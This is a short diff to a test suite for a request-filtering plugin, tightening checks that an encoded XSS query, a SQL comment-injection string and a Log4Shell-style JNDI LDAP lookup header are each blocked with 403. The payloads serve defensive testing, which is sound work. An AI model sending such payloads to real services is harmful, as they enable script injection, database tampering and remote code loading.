@@ -88,7 +88,7 @@ describe("F4: patterns on the way in", () => {
       const plugin = await strictest();
       const query = "q=%3Cscript%3Ealert(1)%3C/script%3E";
       expect(await stopped(plugin, { ...request, query })).toBe(403);
-      expect(await stopped(plugin, { ...request, query: "q=it's -- x" })).toBe(403);
+      expect(await stopped(plugin, { ...request, query: "q=x' --" })).toBe(403);
       const headers = { "x-api-version": "\u0024{jndi:ldap://203.0.113.1/a}" };
       expect(await stopped(plugin, { ...request, headers })).toBe(403);
     },
